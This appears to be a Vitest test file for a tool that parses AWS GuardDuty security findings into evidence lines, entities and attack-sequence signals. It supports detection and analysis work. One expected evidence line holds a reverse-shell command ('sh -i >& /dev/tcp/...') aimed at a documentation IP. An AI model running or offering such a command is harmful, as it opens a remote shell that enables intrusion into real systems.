import { existsSync, readdirSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { parseFile } from '../../src/ingest/records.ts'
import { rawText } from '../../src/model/answer.ts'
import type { FindingObservation } from '../../src/model/observation.ts'
import { parseTime } from '../../src/model/time.ts'
import { parseRecord } from '../../src/sources/index.ts'
import type { JsonObject } from '../../src/sources/json.ts'
import {
  asked,
  binding,
  bucket,
  called,
  database,
  FAMILIES,
  gd,
  knocked,
  lambda,
  malware,
  objectScan,
  probed,
  runtime,
  sequence,
} from './families.ts'
import { changed } from './fixture.ts'
import { sentences } from './written.ts'

function finding(value: unknown): FindingObservation {
  const parsed = parseRecord(value)
  if (parsed.kind !== 'finding') throw new Error(JSON.stringify(parsed))
  return parsed
}

/** The evidence as lines: `Process: sh (/bin/sh), pid 41`. */
function lines(value: JsonObject): readonly string[] {
  return finding(value).evidence.map(({ label, said }) => `${label}: ${said.map(rawText).join('')}`)
}

describe('the cluster of a finding', () => {
  const node = (tags: readonly object[]) =>
    gd('Backdoor:EC2/C&CActivity.B', { instanceDetails: { instanceId: 'i-0abc', tags } }, {})
  const tag = (key: string, value = 'owned') => ({ key, value })
  test.each<[string, JsonObject, string | undefined]>([
    ['its own details', malware, 'payments'],
    ['the tags that the makers of nodes write', probed, 'payments'],
    ['the tags that EKS writes', asked, 'payments'],
    ['the resources of an attack sequence', sequence, 'payments'],
    ['the ARN alone', changed(malware, 'resource.eksClusterDetails.name', null), 'payments'],
    [
      'the cluster that a call was about',
      changed(called, 'service.action.awsApiCallAction.affectedResources', {
        'AWS::EKS::Cluster': 'arn:aws:eks:eu-west-1:111122223333:cluster/payments',
      }),
      'payments',
    ],
    ['nothing', knocked, undefined],
    [
      'tags of two clusters',
      node([tag('kubernetes.io/cluster/a'), tag('kubernetes.io/cluster/b')]),
      undefined,
    ],
    [
      'both kinds of tags: that of EKS',
      node([tag('kubernetes.io/cluster/a'), tag('eks:cluster-name', 'b')]),
      'b',
    ],
    [
      'a tag that AWS alone can write, before one that anybody can',
      node([tag('eks:cluster-name', 'a'), tag('aws:eks:cluster-name', 'b')]),
      'b',
    ],
    ['a tag that no cluster can be called by', node([tag('kubernetes.io/cluster/a b/c')]), undefined],
  ])('is what says %s', (_, record, cluster) => {
    expect(finding(record).scope.cluster).toBe(cluster)
  })
})

describe('families', () => {
  test('runtime: the process, who started it, and the files', () => {
    expect(lines(runtime)).toEqual([
      'Process: sh (/bin/<!channel>), pid 41',
      `SHA-256: ${'ab'.repeat(32)}`,
      'User: root (0)',
      'Working folder: /tmp',
      'Started by: node (/usr/bin/node), pid 7 ← containerd-shim (/usr/bin/shim), pid 1',
      'Command line: sh -i >& /dev/tcp/203.0.113.50/3333',
      'File known as a threat: /tmp/x',
      'Connection: 10.0.0.9:22 → 203.0.113.50:3333',
      'Protocol: TCP',
      'Direction: outbound',
      'Instance profile: arn:aws:iam::111122223333:instance-profile/payments-node',
      'Instance type: m7i.large',
      'Container: main c1',
      'Threat list: Amazon',
      'Known as: Shells',
      'Place: Amsterdam, Netherlands',
      'Network: AS64496 Example Hosting',
    ])
    expect(sentences(finding(runtime))).toEqual(
      expect.arrayContaining([
        `file:${'ab'.repeat(32)} path /bin/<!channel>`,
        `pod:shop/web-1 holds file:${'ab'.repeat(32)}`,
        'pod:shop/web-1 holds file:/tmp/x',
        'pod:shop/web-1 on instance:i-0aaaabbbbcccc0001',
        'pod:shop/web-1 contacts ip:203.0.113.50',
        'ip:203.0.113.50 port 3333/tcp',
      ]),
    )
  })

  test('malware: files with their hashes, and the scan', () => {
    expect(lines(malware)).toEqual([
      'Threats: EICAR',
      `File: tmp/eicar.com · ${'cd'.repeat(32)} · EICAR`,
      'Files scanned: 6522',
      'Scan: scan-1',
      'Kind of scan: GUARDDUTY_INITIATED',
      'Scanned because of: executionruntimereverseshell',
    ])
    expect(sentences(finding(malware))).toContain(`pod:shop/web-1 holds file:${'cd'.repeat(32)}`)
    expect(finding(objectScan).entities).toEqual(
      expect.arrayContaining([
        { kind: 'file', key: 'ef'.repeat(32) },
        { kind: 'bucket', key: 'uploads' },
      ]),
    )
  })

  test('a probe and a connection from outside name the port of the instance', () => {
    const instance = 'instance:i-0aaaabbbbcccc0001'
    expect(sentences(finding(probed))).toEqual(
      expect.arrayContaining([`${instance} port 10250/tcp`, `ip:203.0.113.50 contacts ${instance}`]),
    )
    expect(sentences(finding(knocked))).toEqual(
      expect.arrayContaining([`${instance} port 22/tcp`, `ip:203.0.113.50 contacts ${instance}`]),
    )
    expect(sentences(finding(knocked)).join()).not.toContain('3333')
  })

  test('a request for a name makes the domain known, as DNS compares it', () => {
    expect(sentences(finding(asked))).toContain('instance:i-0aaaabbbbcccc0001 contacts domain:evil.example')
  })

  test('a call to AWS names call, refusal and what it was about', () => {
    expect(lines(called)).toEqual(
      expect.arrayContaining([
        'Call: cloudtrail.amazonaws.com DeleteTrail',
        'Error: AccessDenied',
        'Affected: AWS::CloudTrail::Trail arn:aws:cloudtrail:eu-west-1:111122223333:trail/all',
      ]),
    )
  })

  test('buckets, databases and functions are entities', () => {
    const of = (record: JsonObject) => finding(record).entities
    expect(of(bucket)).toContainEqual({ kind: 'bucket', key: 'ledgers' })
    expect(of(database)).toContainEqual({ kind: 'database', key: 'orders' })
    expect(of(lambda)).toContainEqual({ kind: 'function', key: 'resize' })
    expect(lines(database)).toEqual(
      expect.arrayContaining(['Sign-ins: app, 9 failed, 1 let in', 'Unusual: DB user: app']),
    )
    expect(sentences(finding(lambda))).toContain(
      'function:resize is role:arn:aws:iam::111122223333:role/resize',
    )
  })

  test('rights are known by the names that audit events have for them', () => {
    expect(sentences(finding(binding))).toEqual(
      expect.arrayContaining([
        'binding:-/kube-proxy-ext uid uid-binding',
        'binding:-/kube-proxy-ext binds role:-/ClusterRole/cluster-admin',
      ]),
    )
  })

  test('an attack sequence has its signals in order, and names whom it is about', () => {
    expect(finding(sequence)).toMatchObject({
      subject: 'system:anonymous',
      ip: '203.0.113.50',
      principal: 'AROAEXAMPLE:mallory',
      instance: 'i-0aaaabbbbcccc0001',
      related: ['executionruntimereverseshell', 'executionkubernetesmaliciousfile'],
      signals: [
        {
          kind: 'CLOUD_TRAIL',
          finding: null,
          name: 'DeleteTrail',
          tactic: 'Defense evasion',
          firstSeen: parseTime('2026-11-22T04:05:00Z'),
          lastSeen: parseTime('2026-11-22T04:06:00Z'),
          count: 41,
        },
        { finding: 'executionruntimereverseshell', tactic: 'Execution' },
        { finding: 'executionkubernetesmaliciousfile' },
      ],
    })
    expect(lines(sequence)).toContain('Indicator: Called through Tor: 203.0.113.50')
  })

  const actor = (user: object): JsonObject =>
    changed(sequence, 'service.detection.sequence.actors', [{ id: 'a', user }])

  test.each<[string, object, string | null]>([
    [
      'a name of Kubernetes alone',
      { name: 'system:serviceaccount:shop:web' },
      'system:serviceaccount:shop:web',
    ],
    ['a type of Kubernetes', { name: 'alice', type: 'KubernetesUser' }, 'alice'],
    ['a service account', { name: 'web', type: 'ServiceAccount' }, 'web'],
    ['a type that nobody knows', { name: 'alice', type: 'SomethingNew' }, null],
    ['no type, and a name that anything may have', { name: 'alice' }, null],
    ['an IAM user', { name: 'alice', type: 'IAMUser', uid: 'AIDAEXAMPLE' }, null],
  ])('an actor of a sequence with %s is a subject where that is known', (_, user, subject) => {
    const parsed = finding(actor(user))
    expect(parsed.subject).toBe(subject)
    const subjects = parsed.entities.filter(({ kind }) => kind === 'subject').map(({ key }) => key)
    expect(subjects).toEqual(subject === null ? [] : [subject])
  })

  test.each<[string, JsonObject]>([
    [
      'that made a call',
      changed(called, 'resource.accessKeyDetails', {
        accessKeyId: 'AKIAEXAMPLE',
        principalId: 'AIDAEXAMPLE',
        userName: 'alice',
        userType: 'IAMUser',
      }),
    ],
    [
      'that acted in a sequence',
      actor({ name: 'alice', uid: 'AIDAEXAMPLE', type: 'IAMUser', credentialUid: 'AKIAEXAMPLE' }),
    ],
  ])('an IAM user %s is named as CloudTrail names it', (_, record) => {
    const user = 'user:arn:aws:iam::111122223333:user/alice'
    const parsed = finding(record)
    expect(sentences(parsed)).toEqual(
      expect.arrayContaining([`${user} access-key AKIAEXAMPLE`, `${user} principal-id AIDAEXAMPLE`]),
    )
    expect(parsed.principal).toBe('AIDAEXAMPLE')
    expect(sentences(parsed).join()).not.toContain('role:alice')
  })

  test.each<[string, JsonObject]>([
    [
      'that made a call',
      changed(called, 'resource.accessKeyDetails', {
        accessKeyId: 'ASIAEXAMPLE',
        principalId: '111122223333',
        userName: 'Root',
        userType: 'Root',
      }),
    ],
    ['that acted in a sequence', actor({ name: 'Root', uid: '111122223333', type: 'Root' })],
  ])("an account's root %s is named as CloudTrail names it", (_, record) => {
    expect(finding(record).entities).toContainEqual({ kind: 'user', key: 'arn:aws:iam::111122223333:root' })
  })

  test('a value that holds the words between values stays one value', () => {
    const forged = changed(runtime, 'service.runtimeDetails.process', {
      name: 'sh (/bin/sh), pid 1 ← init',
      executablePath: '/tmp/x',
      pid: 41,
      lineage: [{ name: 'a ← b' }, { name: 'c' }],
    })
    expect(finding(forged).evidence.slice(0, 2)).toEqual([
      {
        label: 'Process',
        said: [{ code: 'sh (/bin/sh), pid 1 ← init' }, ' (', { code: '/tmp/x' }, ')', ', pid 41'],
      },
      { label: 'Started by', said: [{ code: 'a ← b' }, ' ← ', { code: 'c' }] },
    ])
  })

  test('a line of evidence is bounded, however many values it has', () => {
    const lists = {
      threatIntelligenceDetails: [{ threatNames: Array.from({ length: 100 }, () => 'x'.repeat(900)) }],
    }
    const [line] = finding(changed(runtime, 'service.evidence', lists)).evidence.filter(
      ({ label }) => label === 'Known as',
    )
    expect(JSON.stringify(line).length).toBeLessThan(3_000)
    expect(line?.said.at(-1)).toBe('…')
  })

  test.each<[unknown, string]>([
    [true, 'Asked whether it may: get secrets shop: allowed'],
    ['false', 'Asked whether it may: get secrets shop: not allowed'],
    [undefined, 'Asked whether it may: get secrets shop'],
  ])('a permission that was checked, allowed: %s', (allowed, line) => {
    const checked = { verb: 'get', resource: 'secrets', namespace: 'shop', allowed }
    const record = changed(binding, 'service.action.kubernetesPermissionCheckedDetails', checked)
    expect(lines(record)).toContain(line)
  })

  test('what a bucket lets others do is told in the words of GuardDuty', () => {
    expect(lines(bucket)).toContain('Effective permission: PUBLIC')
  })

  test('signals that are too many to be read are told of', () => {
    const signals = Array.from({ length: 130 }, (_, nr) => ({
      uid: `f${nr}`,
      type: 'FINDING',
      name: 'A:B/C',
    }))
    const record = changed(sequence, 'service.detection.sequence.signals', signals)
    expect(finding(record).signals).toHaveLength(100)
    expect(lines(record)).toContain('Signals: the first 100 are read, 30 more are not')
  })

  test('a finding that belongs to a sequence says to which', () => {
    const arn = 'arn:aws:guardduty:eu-west-1:111122223333:detector/d1/finding/the-sequence'
    expect(finding({ ...runtime, associatedAttackSequenceArn: arn }).related).toEqual(['the-sequence'])
  })

  test.each(Object.entries(FAMILIES))('%s: every link and trait is about an entity of it', (_, record) => {
    const { entities, links, traits } = finding(record)
    for (const { from, to } of links) expect(entities).toEqual(expect.arrayContaining([from, to]))
    for (const { entity } of traits) expect(entities).toContainEqual(entity)
  })

  test.each(Object.entries(FAMILIES))(
    '%s: whatever stands in a field, it is read or left out',
    (_, record) => {
      for (const odd of [null, 'text', 7, [], [null], {}, [[{}]], true, '\ud800\0'.repeat(100)]) {
        for (const spoiled of spoilt(record, odd)) {
          const parsed = parseRecord(spoiled)
          expect(['finding', 'rejected']).toContain(parsed.kind)
          if (parsed.kind === 'finding') expect(JSON.stringify(parsed.evidence).isWellFormed()).toBe(true)
        }
      }
    },
  )
})

/** The record once for each of its fields, with something odd in its place. */
function spoilt(value: unknown, odd: unknown): unknown[] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, inner]) => {
    const put = (other: unknown): unknown =>
      Array.isArray(value)
        ? (value as unknown[]).map((one, at) => (String(at) === key ? other : one))
        : { ...value, [key]: other }
    return [put(odd), ...spoilt(inner, odd).map(put)]
  })
}

const data = new URL('../../../shared/data/guardduty/', import.meta.url).pathname

test.skipIf(!existsSync(data))('every public finding is read and tied to something', async () => {
  const read: FindingObservation[] = []
  for (const file of readdirSync(data).filter((name) => name !== 'MANIFEST.md')) {
    for await (const records of parseFile(data + file)) {
      for (const { parsed } of records) {
        if (parsed.kind === 'finding') read.push(parsed)
        else expect([file, parsed]).toEqual([file, expect.objectContaining({ class: 'unrecognised' })])
      }
    }
  }
  expect(read.length).toBeGreaterThanOrEqual(15)
  for (const one of read) expect(one.scope.account, one.type).toBeDefined()
  for (const one of read.filter(({ type }) => type.includes(':Kubernetes/')))
    expect(one.scope.cluster, one.type).toBeDefined()
})
